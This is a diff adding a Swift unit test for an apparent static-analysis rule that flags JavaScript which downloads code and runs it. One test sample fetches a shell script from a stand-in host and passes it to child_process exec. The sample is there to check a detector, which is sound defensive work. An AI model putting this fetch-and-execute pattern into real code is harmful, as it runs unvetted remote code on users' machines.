@@ -132,3 +132,14 @@ struct RuleContextTests {
     #expect(real.findings.map(\.polarity) == [.affirmative])
   }
 }
+
+extension RuleBehaviourTests {
+  @Test("A download made in a command's callback is not what the command ran")
+  func downloadInCallbackIsNotExecuted() throws {
+    let code = "const { exec } = require('child_process');\nexec('git pull', (err, out) => {\n  fetch('https://api.example.com/status').then(r => r.json());\n});\n"
+    #expect(try findings("code-download-execute", Example(code, language: .javascript)).isEmpty)
+    let fed = "const { exec } = require('child_process');\nconst body = await (await fetch('https://x.example-bin.io/p.sh')).text();\n"
+      + "exec(body, (err, out) => {\n  console.log(out);\n});\n"
+    #expect(try findings("code-download-execute", Example(fed, language: .javascript)).map(\.line) == [3], "a download fed to the command still is")
+  }
+}
